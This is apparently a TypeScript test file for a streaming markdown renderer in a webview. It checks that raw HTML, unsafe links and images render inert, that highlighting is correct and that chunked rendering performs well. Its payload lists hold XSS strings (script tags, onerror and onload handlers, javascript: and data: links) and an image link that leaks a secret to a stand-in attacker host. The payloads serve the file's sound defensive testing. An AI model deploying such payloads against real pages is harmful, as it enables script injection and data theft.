import assert from 'node:assert/strict';
import { createMarkdownRenderer, isSafeUrl } from '../../src/webview/markdown';
import { MarkdownView } from '../../src/webview/markdownView';
import { domWindow, manualFrames } from '../helpers/dom';

const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '[click me](javascript:window.__pwned=1)',
  '[data](data:text/html;base64,PHNjcmlwdD4=)',
  '![pic](https://attacker.example/leak?secret=1)',
  '<a href="javascript:alert(1)">raw link</a>',
  '<iframe src="https://x.example"></iframe>',
  '<svg onload=alert(1)></svg>',
  '<div style="position:fixed" onclick="x()">styled</div>',
  '[vbs](vbscript:msgbox)',
  '[spaced]( javascript:alert(1))',
];

/** Everything in rendered HTML that could run code or load something from outside. */
function dangers(root: Element): string[] {
  const found: string[] = [];
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'img', 'iframe', 'svg', 'style', 'object', 'embed'].includes(tag)) found.push(`<${tag}>`);
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name) || attr.name === 'style') found.push(`${tag}[${attr.name}]`);
      if ((attr.name === 'href' || attr.name === 'src') && !/^(https?:|mailto:)/i.test(attr.value)) found.push(`${tag}[${attr.name}=${attr.value}]`);
    }
  }
  return found;
}

describe('markdown rendering', () => {
  const window = domWindow();
  const renderer = createMarkdownRenderer(window);
  const host = window.document.createElement('div');

  it('renders markdown: headings, emphasis, lists, tables, safe links', () => {
    host.innerHTML = renderer.render('## Hi\n\n*a* **b** [docs](https://example.com)\n\n- x\n\n| a |\n|---|\n| 1 |\n', true);
    assert.equal(host.querySelector('h2')?.textContent, 'Hi');
    assert.equal(host.querySelector('em')?.textContent, 'a');
    assert.equal(host.querySelector('a')?.getAttribute('href'), 'https://example.com');
    assert.equal(host.querySelector('a')?.getAttribute('rel'), 'noopener noreferrer');
    assert.ok(host.querySelector('table td'));
  });

  it('renders every XSS payload inert: raw HTML as text, unsafe links as text, images as links', () => {
    for (const payload of PAYLOADS) {
      host.innerHTML = renderer.render(`Answer: ${payload}\n\n${payload}\n`, true);
      assert.deepEqual(dangers(host), [], payload);
    }
    host.innerHTML = renderer.render('<script>alert(1)</script>', true);
    assert.match(host.textContent ?? '', /<script>alert\(1\)<\/script>/, 'raw HTML is shown as text');
    host.innerHTML = renderer.render('![pic](https://example.com/a.png)', true);
    assert.equal(host.querySelector('img'), null);
    assert.equal(host.querySelector('a')?.getAttribute('href'), 'https://example.com/a.png');
  });

  it('allows only http(s) and mailto URLs', () => {
    assert.equal(isSafeUrl('https://a'), true);
    assert.equal(isSafeUrl('mailto:a@b'), true);
    for (const bad of ['javascript:x', ' JavaScript:x', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd', 'command:workbench.action.quit']) {
      assert.equal(isSafeUrl(bad), false, bad);
    }
  });

  it('highlights code only once its block is settled', () => {
    const md = '```ts\nconst x: number = 1;\n```\n';
    host.innerHTML = renderer.render(md, false);
    assert.equal(host.querySelector('.hljs-keyword'), null);
    host.innerHTML = renderer.render(md, true);
    assert.equal(host.querySelector('.hljs-keyword')?.textContent, 'const');
    host.innerHTML = renderer.render('```nosuchlang\n<b>x</b>\n```\n', true);
    assert.equal(host.querySelector('code')?.textContent, '<b>x</b>');
  });

  it('highlights the languages of coding answers, C with the C++ grammar, and shows others as plain code', () => {
    for (const [lang, keyword] of [['python', 'def'], ['sh', 'if'], ['c', 'return'], ['rs', 'fn'], ['go', 'func'], ['yaml', undefined]] as const) {
      host.innerHTML = renderer.render('```' + lang + '\n' + (keyword ?? 'a: 1') + ' x\n```\n', true);
      assert.match(host.querySelector('code')?.className ?? '', new RegExp(`language-${lang}`), lang);
      if (keyword) assert.equal(host.querySelector('.hljs-keyword')?.textContent, keyword, lang);
    }
    host.innerHTML = renderer.render('```swift\nlet x = 1\n```\n', true);
    assert.equal(host.querySelector('code')?.className, 'hljs');
    assert.equal(host.querySelector('code')?.textContent, 'let x = 1');
  });
});

describe('MarkdownView (streaming)', () => {
  const window = domWindow();

  function view(maxOpen?: number, groupSize?: number) {
    const frames = manualFrames();
    const base = createMarkdownRenderer(window);
    const calls: { markdown: string; settled: boolean }[] = [];
    const renderer = { render: (markdown: string, settled: boolean) => (calls.push({ markdown, settled }), base.render(markdown, settled)) };
    return { md: new MarkdownView(window.document, renderer, frames.schedule, maxOpen, groupSize), frames, calls };
  }

  it('renders at most once per frame, however many chunks arrived', () => {
    const { md, frames, calls } = view();
    for (const word of 'one two three four five'.split(' ')) md.append(word + ' ');
    assert.equal(calls.length, 0);
    assert.equal(frames.run(), 1);
    assert.equal(calls.length, 1);
    assert.equal(md.element.textContent?.trim(), 'one two three four five');
  });

  it('renders each settled block once and re-renders only the open tail', () => {
    const { md, frames, calls } = view();
    const blocks = Array.from({ length: 30 }, (_, i) => `Paragraph ${i} with some words.\n\n`);
    for (const block of blocks) {
      for (const piece of block.match(/.{1,5}/gs)!) {
        md.append(piece);
        frames.run();
      }
    }
    md.finish();
    const settledCalls = calls.filter((c) => c.settled).map((c) => c.markdown.trim());
    assert.deepEqual(settledCalls, blocks.map((b) => b.trim()), 'every block rendered settled exactly once');
    const tailSizes = calls.filter((c) => !c.settled).map((c) => c.markdown.length);
    assert.ok(Math.max(...tailSizes) < 60, `tail renders stay small: ${Math.max(...tailSizes)}`);
    assert.equal(md.element.querySelectorAll('p').length, 30);
  });

  it('keeps settled blocks in groups in sections, so no element gets many children, and marks the full ones', () => {
    const { md, frames } = view(undefined, 4);
    for (let i = 0; i < 40; i++) {
      md.append(`Paragraph ${i}.\n\n`);
      frames.run();
    }
    md.finish();
    const sections = Array.from(md.element.children).filter((c) => c.classList.contains('md-section'));
    assert.equal(sections.length, 3, '39 settled blocks in groups of 4, 4 groups a section');
    assert.equal(md.element.children.length, 4, 'the sections and the tail');
    assert.deepEqual(sections.map((s) => s.classList.contains('md-full')), [true, true, false]);
    const groups = Array.from(md.element.querySelectorAll('.md-group'));
    assert.ok(groups.every((g) => g.children.length <= 4));
    assert.equal(groups.filter((g) => !g.classList.contains('md-full')).length, 1, 'only the last group is still open');
    assert.ok(groups.every((g) => (g as HTMLElement).style.getPropertyValue('contain-intrinsic-size') === ''), 'no layout, no measured size: the placeholder stays');
    assert.deepEqual(Array.from(md.element.querySelectorAll('p')).map((p) => p.textContent), Array.from({ length: 40 }, (_, i) => `Paragraph ${i}.`));
  });

  it('seals a full group only after it was laid out, with that height as its size while skipped off screen', () => {
    const { md, frames } = view(undefined, 2);
    // jsdom has no layout: each element's height is its text's length, and every read is counted.
    let reads = 0;
    const proto = window.HTMLElement.prototype;
    const original = proto.getBoundingClientRect;
    proto.getBoundingClientRect = function (this: HTMLElement) {
      reads++;
      return { height: (this.textContent ?? '').length + 0.4 } as DOMRect;
    };
    try {
      for (let i = 0; i < 3; i++) md.append(`Paragraph ${i}.\n\n`);
      md.append('tail');
      frames.run();
      const first = md.element.querySelector('.md-group') as HTMLElement;
      assert.equal(first.children.length, 2);
      assert.equal(first.classList.contains('md-full'), false, 'not sealed in the render that filled it');
      assert.equal(reads, 0, 'that render read no layout');
      md.append(' more');
      frames.run();
      assert.equal(first.classList.contains('md-full'), true);
      assert.equal(first.style.getPropertyValue('contain-intrinsic-size'), `auto ${Math.ceil((first.textContent ?? '').length + 0.4)}px`);
      assert.equal(reads, 1, 'one read for what the last render filled');
      md.append(' and more');
      frames.run();
      assert.equal(reads, 1, 'nothing to seal, nothing read');
    } finally {
      proto.getBoundingClientRect = original;
    }
  });

  it('grows the open tail in place: its text node survives new chunks, so a selection in it does too', () => {
    const { md, frames } = view();
    md.append('Streaming a sentence');
    frames.run();
    const text = md.element.querySelector('.md-tail p')!.firstChild as Text;
    const selection = window.document.createRange();
    window.document.body.append(md.element);
    selection.setStart(text, 0);
    selection.setEnd(text, 9);
    md.append(' that goes on');
    frames.run();
    assert.equal(md.element.querySelector('.md-tail p')!.firstChild, text);
    assert.equal(text.data, 'Streaming a sentence that goes on');
    assert.equal(selection.toString(), 'Streaming');
    md.element.remove();
  });

  it('marks the pieces of a code block cut for its size as continued, to be drawn as one block', () => {
    const { md, frames } = view(200);
    md.append('```\n');
    for (let i = 0; i < 60; i++) {
      md.append(`line ${i}\n`);
      frames.run();
    }
    const pieces = Array.from(md.element.querySelectorAll('.md-block')).filter((b) => b.querySelector('pre'));
    assert.ok(pieces.length > 2);
    assert.deepEqual(pieces.map((b) => b.classList.contains('md-continued')), pieces.map((_, i) => i > 0));
    md.append('```\n\nafter\n');
    md.finish();
    assert.equal(md.element.querySelector('.md-tail')?.classList.contains('md-continued'), false);
    assert.equal(Array.from(md.element.querySelectorAll('code')).map((c) => c.textContent).join('\n').split('\n').filter(Boolean).length, 60);
  });

  it('keeps a payload split across chunks inert (sanitizes the accumulated text, not each chunk)', () => {
    const { md, frames } = view();
    const payload = 'Look: <scr' + 'ipt>window.__pwned=1</scr' + 'ipt> <img src=x one' + 'rror=alert(1)> [x](java' + 'script:alert(1))\n\n```html\n<script>ok in code</script>\n```\n';
    for (const piece of payload.match(/.{1,3}/gs)!) {
      md.append(piece);
      frames.run();
      assert.deepEqual(dangers(md.element), []);
    }
    md.finish();
    assert.deepEqual(dangers(md.element), []);
    assert.match(md.element.textContent ?? '', /<script>window.__pwned=1<\/script>/);
    assert.match(md.element.querySelector('code')?.textContent ?? '', /<script>ok in code<\/script>/);
  });

  it('joins CRLF split across chunks into one line break', () => {
    const { md, frames } = view();
    md.append('a\r');
    md.append('\nb\r\n\r');
    md.append('\nc');
    frames.run();
    assert.equal(md.source, 'a\nb\n\nc');
  });

  it('adds a copy button to code blocks and highlights the tail when the answer ends', () => {
    const { md, frames } = view();
    md.append('```js\nlet a = 1;\n```');
    frames.run();
    assert.ok(md.element.querySelector('pre > button.copy-code'));
    assert.equal(md.element.querySelector('.hljs-keyword'), null);
    md.finish();
    assert.equal(md.element.querySelector('.hljs-keyword')?.textContent, 'let');
  });
});
